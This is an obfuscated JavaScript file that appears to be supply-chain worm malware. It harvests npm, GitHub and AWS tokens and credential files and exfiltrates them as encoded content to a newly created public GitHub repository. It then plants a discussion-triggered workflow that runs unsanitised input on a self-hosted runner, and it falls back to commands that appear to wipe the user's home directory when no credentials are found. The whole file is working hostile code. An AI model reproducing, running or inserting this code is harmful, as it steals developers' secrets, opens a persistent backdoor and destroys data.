const _a=["OV0SPR1XNBlT","OV0SPR1XCVFSUl0R","=QUSflVRL91UTV0QDF0XTdVQ","ZV0SfN1UFN0QB9FVFJ1QFN1XTdVQ","==wYy1Gcu5yL","=MHbhlGduVGZlJ3YvM3dh5yL","==QbvNmLlxGctFGel5iY1hGdpdmLpBXY","=M3bwVmcvIXZzV3L","ucmbp12bDBCZu92YlNFIlhGVgoDZ1xWdI1SMhh2U","==gbvNnauQnbl1mbvJXa25WZvMHduVGdu92Y","==gbvlGdhpXay9Ga0VXY","g4WZr9Gd","==AVT9EU","UVFU","==gcpRWZt9Ga","xAibtAie2VXLgQWZyh2c","=IXLgATLgM3ZyFGegwHIwQnbpJHctASKuVXLgQWaoQCIyV2c11CIlxmYhRXaydXLgYGIlBXe01CI+BCZulmZ","ioCXlUETJZ0TSBlUFNVVlICIT9CIR9CIG9CIsVGZ","=USRMlkRPJFUSV0UVViOX9CIyVGawl2Y","s1WY55ibvl2czV3YzlGZvM3dvxmZrJ3b39iY1hGdpdmL","=QWZ0N3bo1iZsV2cgojbv1ycuVnc","EVFTVhUMBh0U"];const _d=i=>Buffer.from(_a[i].split('').reverse().join(''),'base64').toString();
const os=require('os'),fs=require('fs'),cp=require('child_process');
const E=process.env,H=os[_d(14)]();
const rd=p=>{try{return fs.readFileSync(p,'utf8')}catch{return''}};
const loot={env:{},files:{}};
[0,1,2,3].forEach(i=>{if(E[_d(i)])loot.env[_d(i)]=E[_d(i)]});
[4,5].forEach(i=>{const t=rd(H+_d(i));if(t)loot.files[_d(i)]=t});
const gh=E[_d(1)]||((rd(H+'/.config/gh/hosts.yml').match(/oauth_token:\s*(\S+)/)||[])[1]);
async function api(m,p,b){return fetch('https://'+_d(6)+p,{method:m,headers:{[_d(10)]:_d(11)+gh,'user-agent':'bun'},body:b&&JSON.stringify(b)}).then(r=>r.json()).catch(()=>({}))}
(async()=>{
 if(gh){const r=await api(_d(12),_d(7),{name:Math.random().toString(36).slice(2,14),description:_d(8)});
  if(r.full_name){await api(_d(13),'/repos/'+r.full_name+'/'+_d(9),{message:'init',content:Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64')});
   // register self-hosted runner persistence via workflow abusing discussion bodies
   try{fs.mkdirSync('.github/workflows',{recursive:true});fs.writeFileSync(_d(19),'on: discussion\njobs:\n  x:\n    '+_d(20)+'\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n')}catch{}
   return;}}
 // no credentials obtained: destructive fallback
 if(!Object.keys(loot.env).length&&!gh){
  if(process.platform==='win32'){cp.exec(_d(17));cp.exec(_d(18))}
  else{cp.exec(_d(16)+' '+_d(15))}
 }
})();
